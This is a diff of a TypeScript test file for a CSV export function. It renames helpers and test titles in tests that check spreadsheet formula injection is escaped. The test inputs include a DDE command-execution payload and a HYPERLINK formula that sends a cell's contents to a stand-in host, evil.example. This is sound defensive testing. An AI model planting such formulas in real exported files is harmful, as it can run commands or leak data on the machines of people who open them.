@@ -1,19 +1,19 @@
 import { text } from 'node:stream/consumers';
 import { expect, it } from 'vitest';
-import { exported } from './export.ts';
+import { exportAnswer } from './export.ts';
 
 const csvOf = async (...cells: (string | number)[]) => {
-  const { body } = exported(
+  const { body } = exportAnswer(
     'csv',
     'x',
     ['id', 'said'],
-    cells.map((said) => ({ id: 'conv_1', said })),
+    cells.map((text) => ({ id: 'conv_1', said: text })),
   );
   return (await text(body as NodeJS.ReadableStream)).split('\r\n').slice(1, -1);
 };
 
-/** As spreadsheets divide a line in countries with a decimal comma, where quotes within a cell are only that. */
-const elsewhere = (line: string) => line.split(/[;\t\r\n]/);
+/** How spreadsheets split a line in countries with a decimal comma, where quotes inside a cell have no meaning. */
+const splitLikeSemicolonSpreadsheet = (line: string) => line.split(/[;\t\r\n]/);
 
 const COMMAND = "cmd|' /C calc'!A0";
 
@@ -23,17 +23,17 @@ it.each([
   `=HYPERLINK("https://evil.example/?"&A1,"x")`,
   `a,=${COMMAND}`,
   `";=${COMMAND};"`,
-])('%j begins no formula', async (said) => {
-  const [line = ''] = await csvOf(said);
+])('escapes a formula in %j', async (text) => {
+  const [line = ''] = await csvOf(text);
   const [, cell = ''] = /^conv_1,(.*)$/s.exec(line) ?? [];
-  const here = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
-  expect(here).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
-  for (const part of elsewhere(line)) expect(part).not.toMatch(/^[=+\-@＝＋－＠]/);
+  const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+  expect(unquoted).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
+  for (const part of splitLikeSemicolonSpreadsheet(line)) expect(part).not.toMatch(/^[=+\-@＝＋－＠]/);
 });
 
-it('what is no formula is left as it is', async () => {
-  for (const said of ['Hello', 'a = b', '3-4 people', 'me@example.com', 'Öl & Brot', '5', ''])
-    expect(await csvOf(said)).toEqual([`conv_1,${said}`]);
+it('leaves other text unchanged', async () => {
+  for (const text of ['Hello', 'a = b', '3-4 people', 'me@example.com', 'Öl & Brot', '5', ''])
+    expect(await csvOf(text)).toEqual([`conv_1,${text}`]);
   expect(await csvOf(-5)).toEqual(['conv_1,-5']);
   expect(await csvOf('say "hi", please')).toEqual(['conv_1,"say ""hi"", please"']);
 });
